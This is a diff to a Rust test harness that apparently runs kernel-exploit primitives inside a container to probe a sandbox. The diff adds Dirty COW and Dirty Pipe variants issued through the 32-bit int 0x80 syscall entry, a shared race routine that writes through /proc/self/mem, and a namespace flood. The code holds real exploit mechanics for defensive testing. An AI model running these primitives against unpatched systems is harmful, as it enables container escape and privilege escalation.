@@ -3,13 +3,13 @@
 //! container's rootfs. Every primitive is the real syscall sequence, bounded in time, and
 //! harmless on this machine's patched kernel (Dirty COW / Dirty Pipe write private copies).
 //!
-//! Usage: primitives <dirtycow FILE | dirtycow-ptrace FILE | dirtypipe FILE |
-//!        dirtypipe-via writev|fork|reopen|tee|splice FILE | procmem | procmem-dup-pwritev |
+//! Usage: primitives <dirtycow FILE | dirtycow-via int80 FILE | dirtycow-ptrace FILE | dirtypipe FILE |
+//!        dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE | procmem | procmem-dup-pwritev |
 //!        procmem-inherited | benign-writes | pvwritev | ptrace PID |
 //!        bpf | open-by-handle | userfaultfd | connect PATH | finit-module | setns32 NSFILE CMD | setns NSFILE CMD |
 //!        int80 NR [ARG | s:STRING]... | iouring-open PATH r|w | fsmount-read DEV FSTYPE FILE |
-//!        fchdir FD CMD | flood open|ns PATH SECS | iouring-dirtypipe FILE | iouring-procmem |
-//!        iouring-dirtycow FILE | iouring-benign>
+//!        fchdir FD CMD | flood open|ns|ns-own PATH SECS | iouring-dirtypipe FILE |
+//!        iouring-procmem | iouring-dirtycow FILE | iouring-benign>
 
 mod iouring;
 
@@ -29,18 +29,14 @@ fn fail(what: &str) -> ! {
     exit(1)
 }
 
-/// The process's own memory, open for reading and writing.
-fn self_mem() -> std::fs::File {
-    OpenOptions::new()
-        .read(true)
-        .write(true)
-        .open("/proc/self/mem")
-        .unwrap_or_else(|_| fail("open /proc/self/mem"))
-}
-
 /// FILE mapped read-only and private, the target both Dirty COW variants race on: (address,
 /// length). The mapping stays for the life of the process.
 fn map_readonly_private(path: &str) -> (usize, usize) {
+    map_readonly_private_with(path, 0)
+}
+
+/// [`map_readonly_private`] with extra mmap `flags` (MAP_32BIT for the 32-bit entry).
+fn map_readonly_private_with(path: &str, flags: libc::c_int) -> (usize, usize) {
     let file = std::fs::File::open(path).unwrap_or_else(|_| fail("open target"));
     let len = file.metadata().map(|m| m.len()).unwrap_or(0).max(1) as usize;
     // SAFETY: mapping a file we opened; callers touch the mapping only through madvise,
@@ -50,7 +46,7 @@ fn map_readonly_private(path: &str) -> (usize, usize) {
             std::ptr::null_mut(),
             len,
             libc::PROT_READ,
-            libc::MAP_PRIVATE,
+            libc::MAP_PRIVATE | flags,
             file.as_raw_fd(),
             0,
         )
@@ -64,42 +60,106 @@ fn map_readonly_private(path: &str) -> (usize, usize) {
 /// Dirty COW: map FILE read-only and private; one thread discards the pages, another forces
 /// writes into the mapping through /proc/self/mem.
 fn dirtycow(path: &str) {
-    let (discards, writes, addr) = cow_race(path, |addr, len| {
+    let (addr, len) = map_readonly_private(path);
+    let mem = open_self_mem();
+    dirtycow_race(
+        "dirtycow",
+        addr,
         // SAFETY: our own mapping.
-        unsafe { libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED) };
-    });
-    println!("dirtycow: {discards} discards, {writes} forced writes at {addr:#x}");
+        move || unsafe {
+            libc::madvise(addr as *mut libc::c_void, len, libc::MADV_DONTNEED);
+        },
+        move || {
+            let _ = mem.write_at(b"m00", addr as u64);
+        },
+    );
 }
 
-/// The Dirty COW race on FILE mapped read-only and private: a thread calls `discard(addr,
-/// len)` on the mapping (madvise(2), an io_uring request) every millisecond while this one
-/// forces writes into it through /proc/self/mem, for at most 500 ms or 200 of each. Returns
-/// (discards, forced writes, address).
-fn cow_race(
-    path: &str,
-    mut discard: impl FnMut(usize, usize) + Send + 'static,
-) -> (u64, u64, usize) {
-    let (addr, len) = map_readonly_private(path);
+/// Dirty COW entirely through the 32-bit entry (`how` = `int80`): i386 madvise (219) with
+/// MADV_DONTNEED_LOCKED (24) and i386 pwrite64 (181) into /proc/self/mem, the mapping and the
+/// written bytes below 4 GiB.
+#[cfg(target_arch = "x86_64")]
+fn dirtycow_via(how: &str, path: &str) {
+    if how != "int80" {
+        fail("dirtycow-via: int80");
+    }
+    const MADV_DONTNEED_LOCKED: i64 = 24;
+    let (addr, len) = map_readonly_private_with(path, libc::MAP_32BIT);
+    let buf = low_page();
+    // SAFETY: a page of our own.
+    unsafe { std::ptr::copy_nonoverlapping(b"m00".as_ptr(), buf, 3) };
+    let mem = open_self_mem();
+    let fd = i64::from(mem.as_raw_fd());
+    dirtycow_race(
+        "dirtycow-via int80",
+        addr,
+        move || {
+            i386_syscall(219, [addr as i64, len as i64, MADV_DONTNEED_LOCKED, 0, 0]);
+        },
+        move || {
+            let off = addr as i64;
+            i386_syscall(181, [fd, buf as i64, 3, off & 0xffff_ffff, off >> 32]);
+            let _ = &mem;
+        },
+    );
+}
+
+/// A page below 4 GiB, readable and writable, for the 32-bit entry's pointer arguments.
+#[cfg(target_arch = "x86_64")]
+fn low_page() -> *mut u8 {
+    // SAFETY: an anonymous mapping of our own.
+    let low = unsafe {
+        libc::mmap(
+            std::ptr::null_mut(),
+            4096,
+            libc::PROT_READ | libc::PROT_WRITE,
+            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_32BIT,
+            -1,
+            0,
+        )
+    };
+    if low == libc::MAP_FAILED {
+        fail("mmap MAP_32BIT");
+    }
+    low.cast()
+}
+
+fn open_self_mem() -> std::fs::File {
+    OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"))
+}
+
+/// The race of every Dirty COW variant: a thread runs `discard` while this one runs
+/// `force_write`, each up to 200 times, 1 ms apart, for at most 500 ms.
+fn dirtycow_race(
+    name: &str,
+    addr: usize,
+    discard: impl Fn() + Send + 'static,
+    force_write: impl Fn(),
+) {
     static STOP: AtomicBool = AtomicBool::new(false);
     let discarder = thread::spawn(move || {
         let mut n = 0u64;
         while !STOP.load(Ordering::Relaxed) && n < 200 {
-            discard(addr, len);
+            discard();
             n += 1;
             thread::sleep(Duration::from_millis(1));
         }
         n
     });
-    let mem = self_mem();
     let start = Instant::now();
     let mut writes = 0u64;
     while start.elapsed() < Duration::from_millis(500) && writes < 200 {
-        let _ = mem.write_at(b"m00", addr as u64);
+        force_write();
         writes += 1;
         thread::sleep(Duration::from_millis(1));
     }
     STOP.store(true, Ordering::Relaxed);
-    (discarder.join().unwrap_or(0), writes, addr)
+    let discards = discarder.join().unwrap_or(0);
+    println!("{name}: {discards} discards, {writes} forced writes at {addr:#x}");
 }
 
 /// Dirty Pipe: prime a pipe, splice one byte of the read-only FILE into it, write to the pipe.
@@ -148,6 +208,13 @@ fn dirtypipe_via(how: &str, path: &str) {
                 }
                 libc::write(fd, byte.as_ptr().cast(), 1)
             }
+            // write(2) through the 32-bit entry (i386 write is 4), the byte below 4 GiB.
+            #[cfg(target_arch = "x86_64")]
+            "int80" => {
+                let low = low_page();
+                *low = byte[0];
+                i386_syscall(4, [i64::from(fds[1]), low as i64, 1, 0, 0]) as isize
+            }
             "tee" | "splice" => {
                 let mut second = [0i32; 2];
                 if libc::pipe(second.as_mut_ptr()) != 0 {
@@ -170,7 +237,7 @@ fn dirtypipe_via(how: &str, path: &str) {
                 }
                 libc::write(second[1], byte.as_ptr().cast(), 1)
             }
-            _ => fail("dirtypipe-via: writev, fork, reopen, tee or splice"),
+            _ => fail("dirtypipe-via: writev, fork, reopen, tee, splice or int80"),
         }
     };
     if n != 1 {
@@ -289,7 +356,11 @@ fn procmem_inherited() {
         iov_base: word.as_ptr() as *mut libc::c_void,
         iov_len: word.len(),
     };
-    let mem = self_mem();
+    let mem = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"));
     // SAFETY: fork in a single-threaded process; the child makes one syscall and exits.
     unsafe {
         let child = libc::fork();
@@ -326,7 +397,11 @@ fn benign_writes() {
         .truncate(true)
         .open("/tmp/benign-out")
         .unwrap_or_else(|_| fail("open output"));
-    let mem = self_mem();
+    let mem = OpenOptions::new()
+        .read(true)
+        .write(true)
+        .open("/proc/self/mem")
+        .unwrap_or_else(|_| fail("open /proc/self/mem"));
     let addr = std::ptr::addr_of!(TARGET_WORD) as u64;
     // SAFETY: plain syscalls on descriptors we own; the buffers outlive each call.
     unsafe {
@@ -629,27 +704,7 @@ fn int80(nr: &str, args: &[String]) {
             None => parse_number(a),
         };
     }
-    let ret: i64;
-    // SAFETY: int 0x80 with eax=nr and ebx, ecx, edx, esi, edi the arguments; every pointer
-    // among them points into the page above.
-    unsafe {
-        // rbx is LLVM's: the first argument goes in through another register, swapped in and
-        // back.
-        std::arch::asm!(
-            "xchg {a0}, rbx",
-            "int 0x80",
-            "xchg {a0}, rbx",
-            a0 = inout(reg) regs[0] => _,
-            inlateout("rax") nr => ret,
-            in("rcx") regs[1],
-            in("rdx") regs[2],
-            in("rsi") regs[3],
-            in("rdi") regs[4],
-            options(nostack),
-        );
-    }
-    // The i386 return value is the low 32 bits, sign-extended.
-    let ret = i64::from(ret as i32);
+    let ret = i386_syscall(nr, regs);
     if ret < 0 {
         println!(
             "int80 {nr} = {ret} ({})",
@@ -759,6 +814,32 @@ fn fsmount_read(dev: &str, fstype: &str, file: &str) {
     println!("fsmount-read: read {n} bytes through a detached mount");
 }
 
+/// i386 syscall `nr` through `int 0x80` with ebx, ecx, edx, esi, edi = `regs` (pointers among
+/// them must be below 4 GiB); the result, sign-extended from its low 32 bits.
+#[cfg(target_arch = "x86_64")]
+fn i386_syscall(nr: i64, regs: [i64; 5]) -> i64 {
+    let ret: i64;
+    // SAFETY: int 0x80 with eax=nr and the argument registers; the kernel reads only what the
+    // syscall's arguments point to, which the caller placed below 4 GiB.
+    unsafe {
+        // rbx is LLVM's: the first argument goes in through another register, swapped in and
+        // back.
+        std::arch::asm!(
+            "xchg {a0}, rbx",
+            "int 0x80",
+            "xchg {a0}, rbx",
+            a0 = inout(reg) regs[0] => _,
+            inlateout("rax") nr => ret,
+            in("rcx") regs[1],
+            in("rdx") regs[2],
+            in("rsi") regs[3],
+            in("rdi") regs[4],
+            options(nostack),
+        );
+    }
+    i64::from(ret as i32)
+}
+
 /// A decimal, 0x-hex or 0-octal number (as in C).
 fn parse_number(text: &str) -> i64 {
     let parsed = if let Some(hex) = text.strip_prefix("0x") {
@@ -812,6 +893,10 @@ fn flood(what: &str, path: &str, secs: u64) {
                     if fd >= 0 {
                         libc::close(fd);
                     }
+                } else if what == "ns-own" {
+                    // Rejoining the mount namespace it is in: succeeds with CAP_SYS_ADMIN,
+                    // changes nothing.
+                    libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNS);
                 } else {
                     libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNS);
                     libc::unshare(libc::CLONE_NEWNS);
@@ -846,6 +931,8 @@ fn main() {
         Some("procmem-dup-pwritev") => procmem_dup_pwritev(),
         Some("procmem-inherited") => procmem_inherited(),
         Some("dirtypipe-via") => dirtypipe_via(&arg(2), &arg(3)),
+        #[cfg(target_arch = "x86_64")]
+        Some("dirtycow-via") => dirtycow_via(&arg(2), &arg(3)),
         Some("benign-writes") => benign_writes(),
         Some("pvwritev") => write_child(true),
         Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
@@ -873,7 +960,7 @@ fn main() {
         ),
         _ => {
             eprintln!(
-                "usage: primitives <dirtycow FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns PATH SECS|iouring-dirtypipe FILE|iouring-procmem|iouring-dirtycow FILE|iouring-benign>"
+                "usage: primitives <dirtycow FILE|dirtycow-via int80 FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own PATH SECS|iouring-dirtypipe FILE|iouring-procmem|iouring-dirtycow FILE|iouring-benign>"
             );
             exit(2);
         }
